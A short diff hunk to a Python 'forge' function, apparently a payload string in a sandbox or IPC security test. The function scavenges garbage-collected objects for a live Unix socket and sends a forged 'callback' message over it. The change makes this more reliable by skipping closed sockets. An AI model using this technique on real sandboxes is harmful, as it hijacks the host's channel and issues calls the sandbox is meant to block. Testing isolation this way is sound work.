@@ -155,8 +155,8 @@ def forge(x):
     import gc, json, socket, struct
     head = json.dumps({"op": "callback", "name": "split_heads", "args": {"t": "list", "v": [x]},
                        "kwargs": {"t": "dict", "v": []}, "blobs": []}).encode()
-    for obj in gc.get_objects():
-        if isinstance(obj, socket.socket) and obj.family == socket.AF_UNIX:
+    for obj in gc.get_objects():  # skipping sockets of earlier sessions, closed but not collected
+        if isinstance(obj, socket.socket) and obj.family == socket.AF_UNIX and obj.fileno() != -1:
             obj.sendall(struct.pack(">I", len(head)) + head)
             return json.loads(obj.recv(1 << 16)[4:])
 """
